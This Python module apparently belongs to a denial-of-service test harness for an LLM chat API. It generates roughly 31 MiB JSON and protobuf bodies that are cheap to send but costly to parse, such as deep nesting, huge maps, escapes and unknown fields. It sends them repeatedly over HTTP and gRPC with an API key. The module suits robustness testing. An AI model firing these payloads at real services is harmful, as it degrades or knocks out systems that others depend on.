"""Requests of a key holder that are cheap to send and dear to parse."""

import asyncio

from attack.grpc_attacks import COMPLETE, WINDOW
from attack.http_attacks import head
from attack.target import MEBIBYTE, Target, data, flooding, frame
from support.http2_peer import HEADERS, header_block

LARGE = 31 * MEBIBYTE
MODEL = b'{"model":"m","messages":['
PART = b'{"type":"text","text":""}'
USER = b'{"role":"user","content":"x"}'


def _filled(before: bytes, unit: bytes, after: bytes, size: int) -> bytes:
    return before + unit * ((size - len(before) - len(after)) // len(unit)) + after


def json_bodies(size: int) -> dict[str, bytes]:
    """Return JSON of about this size, by the name of its shape."""
    messages, extra = MODEL + USER, MODEL + USER + b'],"x":'
    return {
        "empty messages": _filled(MODEL, b"{},", b"{}]}", size),
        "numbers for messages": _filled(MODEL, b"1,", b"1]}", size),
        "valid messages": _filled(MODEL, USER + b",", USER + b"]}", size),
        "messages with empty parts": _filled(
            MODEL + b'{"role":"user","content":[', PART + b",", PART + b"]}]}", size
        ),
        "wrong parts": _filled(MODEL + b'{"role":"user","content":[', b"{},", b"{}]}]}", size),
        "lists in an unknown member": _filled(extra + b"[", b"[],", b"[]]}", size),
        "numbers in an unknown member": _filled(extra + b"[", b"1,", b"1]}", size),
        "deep unknown member": extra + b"[" * (size // 2) + b"]" * (size // 2) + b"}",
        "wide unknown member": extra
        + b"{"
        + b",".join(b'"%x":1' % number for number in range(size // 12))
        + b"}}",
        "unknown members": messages[:-1]
        + b"}],"
        + b",".join(b'"%x":1' % number for number in range(size // 12))
        + b"}",
        "escapes": _filled(MODEL + b'{"role":"user","content":"', b"\\u0001", b'"}]}', size),
        "quotes": _filled(MODEL + b'{"role":"user","content":"', b'\\"', b'"}]}', size),
        "NaN": _filled(MODEL + b'{"role":"user","content":[', b"NaN,", b"1]}]}", size),
        "tools": _filled(messages + b'],"tools":[', b"{},", b"{}]}", size),
        "logit bias": messages
        + b'],"logit_bias":{'
        + b",".join(b'"%d":1' % number for number in range(size // 12))
        + b"}}",
        "stops": _filled(messages + b'],"stop":[', b'"",', b'""]}', size),
        "spaces": _filled(MODEL + USER, b" ", b"]}", size),
        "open strings": _filled(MODEL, b'"",', b'"', size),
    }


def _message(number: int, content: bytes) -> bytes:
    length, coded = len(content), bytearray()
    while length >= 128:
        coded.append(length % 128 + 128)
        length //= 128
    coded.append(length)
    return bytes((number << 3 | 2,)) + bytes(coded) + content


def wire_bodies(size: int) -> dict[str, bytes]:
    """Return serialised requests of about this size, by the name of their shape."""
    return {
        "empty messages": b"\x12\x00" * (size // 2),
        "empty parts": _message(2, b"\x12\x00" * (size // 2)),
        "unknown fields": b"\xf8\x3f\x01" * (size // 3),
        "groups": b"\xfb\x3f\xfc\x3f" * (size // 4),
        "empty maps": b"\x82\x01\x00" * (size // 3),
        "empty tools": b"\x8a\x01\x00" * (size // 3),
        "a long text": _message(1, b"x" * size),
        "control characters": _message(2, b"\x08\x02" + _message(2, _message(1, b"\x01" * size))),
    }


async def post(target: Target, number: int, body: bytes) -> None:
    async with target.connected(target.http, number) as (reader, writer):
        writer.write(head(target, f"content-length: {len(body)}", key=True) + body)
        line = await reader.readline()
        target.seen[line.decode("latin-1").strip()[9:12] or "closed"] += 1


async def call(target: Target, number: int, body: bytes) -> None:
    async with flooding(target, number) as flood:
        extra = (("authorization", f"Bearer {target.key}"),)
        flood.writer.write(WINDOW + frame(HEADERS, 4, 1, header_block(COMPLETE, extra)) + data(1, body))
        before = sum(target.seen.values())
        while sum(target.seen.values()) == before:
            await flood.drain()
            await asyncio.sleep(0.005)


async def json(target: Target) -> None:
    for body in json_bodies(LARGE).values():
        await target.repeat(lambda number, body=body: post(target, number, body))
        if target.over:
            break


async def wire(target: Target) -> None:
    for body in wire_bodies(LARGE).values():
        await target.repeat(lambda number, body=body: call(target, number, body))
        if target.over:
            break
